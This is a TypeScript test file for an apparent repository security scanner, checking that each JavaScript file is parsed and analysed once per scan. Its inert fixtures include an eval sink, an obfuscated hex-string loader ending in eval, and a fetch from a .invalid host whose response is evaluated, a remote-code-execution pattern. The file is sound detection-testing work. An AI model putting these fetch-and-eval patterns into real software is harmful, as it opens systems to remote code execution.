/**
 * Each JavaScript file is parsed once per scan: the import graph of the execution map, the text
 * facts, the code facts and the rules that read a config's syntax tree share one parse
 * (src/facts/parses.ts), and the report's timing counts files parsed and parses performed.
 */
import assert from 'node:assert/strict';
import { rmSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { after, describe, it } from 'node:test';
import { renderText } from '../../src/reporters/text.ts';
import { scanFixture, tempRepo } from '../helpers/fixtures.ts';

const dirs: string[] = [];
after(() => {
  for (const d of dirs) rmSync(d, { recursive: true, force: true });
});

// Inert: nothing here runs, and the only endpoint is under .invalid.
const FILES = {
  'package.json': JSON.stringify({ name: 'one-parse', version: '1.0.0', scripts: { dev: 'node server/index.js', test: 'jest' } }),
  // An entry of `npm run dev`: the import graph, the text facts and the code facts all read it.
  'server/index.js':
    "const run = require('./run.js');\nconst { exec } = require('child_process');\nexec('echo ok');\nrun(process.argv[2]);\n",
  // Reached from the entry, with a sink.
  'server/run.js': 'module.exports = function run(code) {\n  return eval(code);\n};\n',
  // Not reached; an obfuscation candidate the text facts parse, with a sink the code facts analyse.
  'lib/packed.js': `var _0x3f2a = ['\\x68\\x74\\x74\\x70\\x73', 'cfg.example.invalid'];\n${Array.from({ length: 40 }, (_, i) => `function _0x${(0x1000 + i).toString(16)}(a) { return _0x3f2a[a % 2] + _0x3f2a[${i} % 2]; }`).join('\n')}\neval(_0x1000(0));\n`,
  // A config the test runner loads: its setup files are read from its syntax tree.
  'jest.config.js': "module.exports = { setupFiles: ['./test/setup.js'] };\n",
  'test/setup.js': "process.env.TZ = 'UTC';\n",
  'README.md': '# one parse\n',
};
const JS_FILES = Object.keys(FILES).filter(p => p.endsWith('.js'));

describe('one parse per JavaScript file', () => {
  it('parses each JavaScript file of a scan once, and --verbose text output says so', async () => {
    const dir = tempRepo(FILES);
    dirs.push(dir);
    const report = await scanFixture(dir);
    assert.equal(report.timing['jsFilesParsed'], JS_FILES.length);
    assert.equal(report.timing['jsParses'], JS_FILES.length);
    // The map saw the dev entry and what it reaches, and the code facts found the sinks.
    assert.ok(report.executionMap.some(s => s.entry === 'server/index.js' && s.reaches.includes('server/run.js')));
    assert.ok(report.findings.some(f => f.location.file === 'server/run.js' && f.ruleId.startsWith('code/')));
    const text = renderText(report, { color: false, verbose: true });
    assert.match(text, new RegExp(`JavaScript files parsed: ${JS_FILES.length}, parses: ${JS_FILES.length}\\n`));
  });
});

describe('one analysis per JavaScript file', () => {
  it('does not analyse again a file the pre-filter skipped once another file has analysed it as its import', async () => {
    // Inert: the endpoint is under .invalid and nothing runs.
    const files = {
      'package.json': JSON.stringify({ name: 'helpers', version: '1.0.0' }),
      // No pre-filter atom; it calls a local helper that has a sink, so it is a candidate again later.
      'a-wrapper.js': "const run = require('./c-helper.js');\nmodule.exports = s => run(s);\n",
      // Passes the pre-filter and imports the wrapper, which is analysed then for its summary.
      'b-entry.js':
        "const wrap = require('./a-wrapper.js');\nfetch('https://cfg.example.invalid/x').then(async r => wrap(await r.text()));\n",
      'c-helper.js': 'module.exports = function run(code) {\n  return eval(code);\n};\n',
    };
    const dir = tempRepo(files);
    dirs.push(dir);
    const report = await scanFixture(dir);
    assert.equal(report.timing['jsFilesParsed'], 3);
    assert.equal(report.timing['jsParses'], 3);
    // The chain through both files is still found.
    assert.ok(
      report.findings.some(f => f.ruleId === 'code/remote-code-execution' && f.location.file === 'b-entry.js' && f.location.line === 2),
    );
  });
});

describe('one parse for files a finding says a surface runs', () => {
  it('follows the imports of a file an Nx target runs while its parse is still shared', async () => {
    const dir = fileURLToPath(new URL('../../src/rules/autorun/nx-target/fixtures/match/run-commands-pipe', import.meta.url));
    const report = await scanFixture(dir);
    assert.equal(report.timing['jsFilesParsed'], 1);
    assert.equal(report.timing['jsParses'], 1);
  });
});
